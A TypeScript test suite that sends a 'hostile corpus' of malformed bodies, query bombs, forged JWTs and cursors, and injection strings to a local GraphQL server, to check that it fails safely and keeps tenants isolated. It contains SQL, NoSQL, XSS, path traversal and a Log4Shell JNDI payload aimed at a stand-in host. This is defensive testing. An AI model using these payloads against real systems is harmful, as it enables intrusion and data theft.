import fc from "fast-check";
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
} from "graphql";
import { SignJWT } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startHttpServer, type RunningHttpServer } from "../local/http.js";
import { newTenantId } from "../test/tenant.js";
import { signLocalToken } from "./auth.js";
import { schema } from "./server.js";

/**
 * The hostile corpus (issue "Security and reliability"): malformed and malicious requests over
 * real HTTP against the local server on DynamoDB Local. Every case must get a 4xx or a GraphQL
 * error with a code we name, never a 5xx, an INTERNAL_SERVER_ERROR, a stack trace or a file path,
 * never the other tenant's data; and the server answers normally afterwards. Each block prints
 * what it tried, so the figures can be quoted.
 */

/** Codes a client may see for a bad request. INTERNAL_SERVER_ERROR is not among them: that would be our bug. */
const CLIENT_CODES = new Set([
  "BAD_USER_INPUT",
  "BAD_REQUEST",
  "UNAUTHENTICATED",
  "FORBIDDEN",
  "NOT_FOUND",
  "CONFLICT",
  "GRAPHQL_PARSE_FAILED",
  "GRAPHQL_VALIDATION_FAILED",
  "OPERATION_RESOLUTION_FAILURE",
  "PERSISTED_QUERY_NOT_SUPPORTED",
]);

let running: RunningHttpServer;
let admin: string;
let otherTenantMarker: string;
const tenant = newTenantId("hostile");
const other = newTenantId("victim");
let otherMemberId: string;
let otherCursor: string;
let partnerKey: string;
const failures: string[] = [];
let requests = 0;

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Body = any;

async function send(init: { body?: string | Buffer; headers?: Record<string, string>; method?: string; query?: string }): Promise<{ status: number; text: string; body: Body }> {
  requests++;
  const url = init.query ? `${running.url}?${init.query}` : running.url;
  const res = await fetch(url, { method: init.method ?? "POST", headers: { "content-type": "application/json", ...init.headers }, body: init.body });
  const text = await res.text();
  let body: Body;
  try {
    body = JSON.parse(text);
  } catch {
    body = undefined;
  }
  return { status: res.status, text, body };
}

const gql = (query: string, variables: Record<string, unknown> = {}, token = admin) =>
  send({ body: JSON.stringify({ query, variables }), headers: token ? { authorization: `Bearer ${token}` } : {} });

/** Records (rather than throws) what is wrong with an answer, so one run lists every bad case. */
function check(label: string, r: { status: number; text: string; body: Body }): void {
  const problems: string[] = [];
  if (r.status >= 500) problems.push(`status ${r.status}`);
  if (r.body === undefined) problems.push("not JSON");
  const errors: Body[] = Array.isArray(r.body?.errors) ? r.body.errors : [];
  for (const e of errors) {
    const code = e?.extensions?.code;
    if (!CLIENT_CODES.has(code)) problems.push(`code ${String(code)}: ${String(e?.message).slice(0, 160)}`);
    if (e?.extensions?.stacktrace || e?.extensions?.exception) problems.push("stack trace in extensions");
  }
  if (/\n\s+at |\/work\/|node_modules|\.ts:\d+/.test(r.text)) problems.push("stack trace or path in the body");
  // The victim's name and phone (plain or masked); an error may echo an id we sent, which is not their data.
  if (r.text.includes(otherTenantMarker) || r.text.includes("13900139000") || r.text.includes("139****9000")) problems.push("the other tenant's data");
  if (r.status < 400 && errors.length === 0 && r.body?.data === undefined) problems.push("neither data nor errors");
  if (problems.length) failures.push(`${label}: ${problems.join("; ")}`);
}

beforeAll(async () => {
  running = await startHttpServer({ port: 0 });
  admin = await signLocalToken({ tenant, role: "ADMIN" });
  // The victim: a member whose name must never show up in the attacker's answers.
  otherTenantMarker = `VICTIM-${other}`;
  const victim = await signLocalToken({ tenant: other, role: "ADMIN" });
  const created = await gql(`mutation { createMember(input: { name: "${otherTenantMarker}", phone: "+8613900139000", sourceChannel: WECOM }) { member { id } } }`, {}, victim);
  otherMemberId = created.body.data.createMember.member.id;
  await gql(`mutation { createMember(input: { name: "second", sourceChannel: WECOM }) { member { id } } }`, {}, victim);
  otherCursor = (await gql(`{ members(first: 1) { pageInfo { endCursor } } }`, {}, victim)).body.data.members.pageInfo.endCursor;
  // The attacker's own brand has a member and a partner, so ids and keys exist to tamper with.
  await gql(`mutation { createMember(input: { name: "own", phone: "+8613800138000", sourceChannel: WECOM }) { member { id } } }`);
  await gql(`mutation { createPartner(input: { id: "p1", name: "P" }) { partner { id } } }`);
  partnerKey = (await gql(`mutation { createPartnerKey(input: { partnerId: "p1" }) { key } }`)).body.data.createPartnerKey.key;
});

afterAll(async () => {
  console.log(`hostile corpus: ${requests} requests served, ${failures.length} failures`);
  await running?.stop();
});

describe("the hostile corpus", () => {
  it("malformed HTTP bodies and methods get a 4xx with a code", async () => {
    const mark = failures.length;
    const bodies: [string, string | Buffer, Record<string, string>?][] = [
      ["empty body", ""],
      ["truncated JSON", '{"query": "{ viewer { role } }"'],
      ["JSON array of junk", "[1, 2, 3]"],
      ["null", "null"],
      ["a string", '"{ viewer { role } }"'],
      ["query not a string", '{"query": 5}'],
      ["variables a string", '{"query": "{ viewer { role } }", "variables": "x"}'],
      ["operationName an object", '{"query": "{ viewer { role } }", "operationName": {}}'],
      ["binary garbage", Buffer.from([0xff, 0xfe, 0x00, 0x81, 0x9f, 0x00, 0x7b])],
      ["deeply nested JSON", `${"[".repeat(5000)}${"]".repeat(5000)}`],
      ["text/plain", '{"query": "{ viewer { role } }"}', { "content-type": "text/plain" }],
      ["no content type", '{"query": "{ viewer { role } }"}', { "content-type": "" }],
      ["over the body limit", JSON.stringify({ query: "{ viewer { role } }", variables: { x: "a".repeat(2_000_000) } })],
      ["a batch of 50 operations", JSON.stringify(Array.from({ length: 50 }, () => ({ query: "{ viewer { role } }" })))],
    ];
    for (const [label, body, headers] of bodies) {
      const r = await send({ body, headers: { authorization: `Bearer ${admin}`, ...headers } });
      check(label, r);
      if (r.status < 400 && !r.body?.errors) failures.push(`${label}: accepted (${r.status})`);
    }
    // CSRF: a mutation over GET, and a GET without the preflight header.
    const mutation = encodeURIComponent(`mutation { updateTenantSettings(input: { name: "via GET" }) { settings { name } } }`);
    check("mutation over GET", await send({ method: "GET", query: `query=${mutation}`, headers: { authorization: `Bearer ${admin}`, "apollo-require-preflight": "true" } }));
    check("GET without preflight", await send({ method: "GET", query: `query=${mutation}`, headers: { authorization: `Bearer ${admin}` } }));
    for (const method of ["PUT", "DELETE", "PATCH"]) check(`${method}`, await send({ method, body: '{"query":"{ viewer { role } }"}', headers: { authorization: `Bearer ${admin}` } }));
    console.log(`malformed bodies and methods: ${bodies.length + 5} cases`);
    expect(failures.slice(mark)).toEqual([]);
  });

  it("invalid GraphQL, deep and wide queries, alias bombs, fragment cycles and token floods are refused before execution", async () => {
    const mark = failures.length;
    let nested = "id";
    for (let i = 0; i < 40; i++) nested = `referrer { ${nested} }`;
    const cases: [string, string][] = [
      ["unclosed brace", "{ viewer { role }"],
      ["only braces", "}}}}"],
      ["unknown field", "{ nope }"],
      ["fragment cycle", "query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }"],
      ["self-spreading fragment", "query { ...A } fragment A on Query { viewer { role } ...A }"],
      ["two anonymous operations", "{ viewer { role } } { viewer { role } }"],
      ["depth 40", `{ member(id: "x") { ${nested} } }`],
      ["1,000 aliases", `{ ${Array.from({ length: 1000 }, (_, i) => `a${i}: viewer { role }`).join(" ")} }`],
      ["1,000 directives", `{ viewer { role ${"@include(if: true) ".repeat(1000)}} }`],
      ["50,000 tokens", `{ viewer { role } } ${"# x\n".repeat(10)}${"query Q { viewer { role } } ".repeat(5000)}`],
      ["a 500 kB string literal", `{ member(id: "${"x".repeat(500_000)}") { id } }`],
      ["costly page sizes", `{ members(first: 100) { edges { node { orders(first: 100) { edges { node { id } } } } } } }`],
      ["unknown directive", "{ viewer @nope { role } }"],
      ["subscription", "subscription { viewer { role } }"],
    ];
    for (const [label, query] of cases) {
      const r = await gql(query);
      check(label, r);
      if (!r.body?.errors) failures.push(`${label}: executed`);
    }
    console.log(`invalid and abusive queries: ${cases.length} cases`);
    expect(failures.slice(mark)).toEqual([]);
  });

  it("wrong types, unknown enums, out-of-range numbers, forged ids and cursors get codes, never the other tenant", async () => {
    const mark = failures.length;
    const cases: [string, string, Record<string, unknown>?][] = [
      ["id as a number", "{ member(id: 5) { id } }"],
      ["first as a string", `{ members(first: "x") { edges { cursor } } }`],
      ["first negative", "{ members(first: -1) { edges { cursor } } }"],
      ["first huge", "{ members(first: 100000) { edges { cursor } } }"],
      ["first beyond 32 bits", "{ members(first: 99999999999) { edges { cursor } } }"],
      ["unknown enum", `mutation { createMember(input: { name: "x", sourceChannel: TELEPATHY }) { member { id } } }`],
      ["enum as a string variable", "mutation($c: Channel!) { createMember(input: { name: \"x\", sourceChannel: $c }) { member { id } } }", { c: "telepathy" }],
      ["variable of the wrong type", "query($n: Int) { members(first: $n) { edges { cursor } } }", { n: "ten" }],
      ["missing required variable", "query($id: ID!) { member(id: $id) { id } }", {}],
      ["negative amount", `mutation { recordOrder(input: { id: "o1", memberId: "m", channel: WEB, amount: -5, occurredAt: "2026-01-01T00:00:00Z" }) { order { id } } }`],
      ["absurd amount", `mutation { recordOrder(input: { id: "o2", memberId: "m", channel: WEB, amount: 1e300, occurredAt: "2026-01-01T00:00:00Z" }) { order { id } } }`],
      ["NaN-like date", `mutation { recordOrder(input: { id: "o3", memberId: "m", channel: WEB, amount: 5, occurredAt: "yesterday" }) { order { id } } }`],
      ["year 275760", `mutation { recordOrder(input: { id: "o4", memberId: "m", channel: WEB, amount: 5, occurredAt: "+275760-09-13T00:00:00Z" }) { order { id } } }`],
      ["the other tenant's member id", `{ member(id: "${"ID"}") { id name } }`.replace("ID", "") + "", {}],
      ["forged cursor", `{ members(first: 2, after: "eyJwayI6IlQjdmljdGltIn0") { edges { node { name } } } }`],
      ["the other tenant's cursor", "query($c: String) { members(first: 2, after: $c) { edges { node { name } } } }", { c: "" }],
      ["a tampered cursor", "query($c: String) { members(first: 2, after: $c) { edges { node { name } } } }", { c: "" }],
      ["a key-shaped id", `{ member(id: "T#victim#M#m_1") { id name } }`],
    ];
    cases[13] = ["the other tenant's member id", "query($id: ID!) { member(id: $id) { id name } }", { id: otherMemberId }];
    cases[15] = ["the other tenant's cursor", "query($c: String) { members(first: 2, after: $c) { edges { node { name } } } }", { c: otherCursor }];
    cases[16] = ["a tampered cursor", "query($c: String) { members(first: 2, after: $c) { edges { node { name } } } }", { c: `${otherCursor.slice(0, -2)}AA` }];
    for (const [label, query, variables] of cases) check(label, await gql(query, variables ?? {}));
    const stolen = await gql("query($id: ID!) { member(id: $id) { id name } }", { id: otherMemberId });
    expect(stolen.body.data?.member ?? null).toBeNull();
    console.log(`types, bounds, forged ids and cursors: ${cases.length} cases`);
    expect(failures.slice(mark)).toEqual([]);
  });

  it("expired, forged and misplaced credentials are UNAUTHENTICATED or FORBIDDEN", async () => {
    const mark = failures.length;
    const secret = new TextEncoder().encode("local-dev-jwt-secret-change-me");
    const sign = (claims: Record<string, unknown>, opts: { exp?: number; key?: Uint8Array; alg?: string; iss?: string } = {}) =>
      new SignJWT(claims)
        .setProtectedHeader({ alg: opts.alg ?? "HS256" })
        .setSubject("attacker")
        .setIssuer(opts.iss ?? "growth-local")
        .setIssuedAt()
        .setExpirationTime(opts.exp ?? Math.floor(Date.now() / 1000) + 600)
        .sign(opts.key ?? secret);
    const none = `${Buffer.from('{"alg":"none"}').toString("base64url")}.${Buffer.from(JSON.stringify({ tenant, role: "ADMIN", sub: "x", exp: 9e9 })).toString("base64url")}.`;
    const tokens: [string, string][] = [
      ["expired", await sign({ tenant, role: "ADMIN" }, { exp: Math.floor(Date.now() / 1000) - 3600 })],
      ["wrong secret", await sign({ tenant, role: "ADMIN" }, { key: new TextEncoder().encode("guessed-secret-guessed-secret-123") })],
      ["alg none", none],
      ["wrong issuer", await sign({ tenant, role: "ADMIN" }, { iss: "evil" })],
      ["tenant with #", await sign({ tenant: `${tenant}#x`, role: "ADMIN" })],
      ["no tenant", await sign({ role: "ADMIN" })],
      ["role ROOT", await sign({ tenant, role: "ROOT" })],
      ["garbage", "not-a-token"],
      ["a partner key with a flipped secret", `${partnerKey.slice(0, -1)}${partnerKey.endsWith("A") ? "B" : "A"}`],
      ["a partner key of another tenant", partnerKey.replace(`pdk.${tenant}.`, `pdk.${other}.`)],
    ];
    for (const [label, token] of tokens) {
      const r = await gql("{ viewer { role } members(first: 1) { edges { node { name } } } }", {}, token);
      check(label, r);
      if (r.body?.errors?.[0]?.extensions?.code !== "UNAUTHENTICATED") failures.push(`${label}: ${r.text.slice(0, 200)}`);
    }
    // A valid partner key on brand operations.
    for (const q of ["{ members(first: 1) { edges { node { name } } } }", `mutation { createMember(input: { name: "x", sourceChannel: WEB }) { member { id } } }`, "{ auditLog(first: 1) { edges { cursor } } }"]) {
      const r = await gql(q, {}, partnerKey);
      check(`partner key: ${q}`, r);
      if (r.body?.errors?.[0]?.extensions?.code !== "FORBIDDEN") failures.push(`partner key ${q}: ${r.text.slice(0, 200)}`);
    }
    console.log(`credentials: ${tokens.length + 3} cases`);
    expect(failures.slice(mark)).toEqual([]);
  });

  it("injection strings in every text argument of every root field are stored or refused, never a server error", { timeout: 600_000 }, async () => {
    const mark = failures.length;
    const strings = [
      "' OR '1'='1' --",
      '{"$gt": ""}',
      `T#${other}#M#${otherMemberId}`,
      otherMemberId,
      "#",
      "<script>alert(1)</script>",
      "${jndi:ldap://evil/x}",
      "../../../../etc/passwd",
      "\u0000\u202e\ud800",
      "x".repeat(100_000),
    ];
    const fields = [...Object.values(schema.getQueryType()!.getFields()).map((f) => ["query", f] as const), ...Object.values(schema.getMutationType()!.getFields()).map((f) => ["mutation", f] as const)];
    let cases = 0;
    for (const [kind, field] of fields) {
      for (const s of strings) {
        const { query, variables } = operationFor(kind, field, s);
        check(`${field.name} with ${JSON.stringify(s.slice(0, 30))}`, await gql(query, variables));
        cases++;
      }
    }
    console.log(`injection strings: ${fields.length} root fields x ${strings.length} strings = ${cases} cases`);
    expect(failures.slice(mark)).toEqual([]);
  });

  it("arbitrary JSON as variables (fast-check) never breaks an operation", { timeout: 600_000 }, async () => {
    const mark = failures.length;
    const ops = [
      "query($id: ID!) { member(id: $id) { id name } }",
      "query($first: Int, $after: String) { members(first: $first, after: $after) { edges { node { id } } } }",
      "mutation($input: CreateMemberInput!) { createMember(input: $input) { member { id } } }",
      "mutation($input: RecordOrderInput!) { recordOrder(input: $input) { order { id } } }",
      "mutation($input: RecordEventInput!) { recordEvent(input: $input) { duplicate } }",
      "query($rule: SegmentRuleInput!) { previewSegment(rule: $rule) { size } }",
    ];
    let cases = 0;
    for (const query of ops) {
      await fc.assert(
        fc.asyncProperty(fc.dictionary(fc.constantFrom("id", "first", "after", "input", "rule"), fc.jsonValue({ maxDepth: 4 })), async (variables) => {
          cases++;
          const before = failures.length;
          check(`${query.slice(0, 40)} ${JSON.stringify(variables).slice(0, 120)}`, await gql(query, variables));
          return failures.length === before;
        }),
        { numRuns: 60, seed: 20261201 },
      );
    }
    console.log(`fast-check variables: ${cases} cases over ${ops.length} operations`);
    expect(failures.slice(mark)).toEqual([]);
  });

  it("still answers normally afterwards", async () => {
    const mark = failures.length;
    const r = await gql("{ viewer { tenantId role } }");
    expect(r.status).toBe(200);
    expect(r.body).toEqual({ data: { viewer: { tenantId: tenant, role: "ADMIN" } } });
  });
});

/** An operation calling `field` with every argument filled, every String/ID leaf set to `text`. */
function operationFor(kind: "query" | "mutation", field: GraphQLField<unknown, unknown>, text: string): { query: string; variables: Record<string, unknown> } {
  const variables: Record<string, unknown> = {};
  const defs: string[] = [];
  const args: string[] = [];
  field.args.forEach((arg: GraphQLArgument, i) => {
    variables[`v${i}`] = valueFor(arg.type, text, 0);
    defs.push(`$v${i}: ${arg.type.toString()}`);
    args.push(`${arg.name}: $v${i}`);
  });
  const selection = isLeafType(getNamedType(field.type)) ? "" : " { __typename }";
  const call = args.length ? `${field.name}(${args.join(", ")})` : field.name;
  return { query: `${kind} Hostile${defs.length ? `(${defs.join(", ")})` : ""} { ${call}${selection} }`, variables };
}

const SCALARS: Record<string, unknown> = {
  Int: 1,
  Float: 1.5,
  Boolean: true,
  DateTime: "2026-11-30T08:00:00Z",
  Date: "2026-11-30",
  EmailAddress: "a@example.com",
  PhoneNumber: "+8613800138000",
  SafeInt: 1,
  NonNegativeInt: 1,
  NonNegativeFloat: 1,
  Latitude: 31.2,
  Longitude: 121.4,
  Currency: "CNY",
};

function valueFor(type: GraphQLInputType, text: string, depth: number): unknown {
  if (isNonNullType(type)) return valueFor(type.ofType, text, depth);
  if (isListType(type)) return [valueFor(type.ofType, text, depth)];
  if (isEnumType(type)) return type.getValues()[0]!.value;
  if (isInputObjectType(type)) {
    const out: Record<string, unknown> = {};
    for (const f of Object.values(type.getFields())) {
      const named = getNamedType(f.type);
      // Required fields always; optional text fields too (to reach every text field); nested inputs to a depth.
      const text_ = named.name === "String" || named.name === "ID";
      if (isNonNullType(f.type) || text_ || (isInputObjectType(named) && depth < 2)) out[f.name] = valueFor(f.type, text, depth + 1);
    }
    return out;
  }
  const name = getNamedType(type).name;
  if (name === "String" || name === "ID") return text;
  if (name === "JSON") return { note: text };
  return SCALARS[name] ?? text;
}
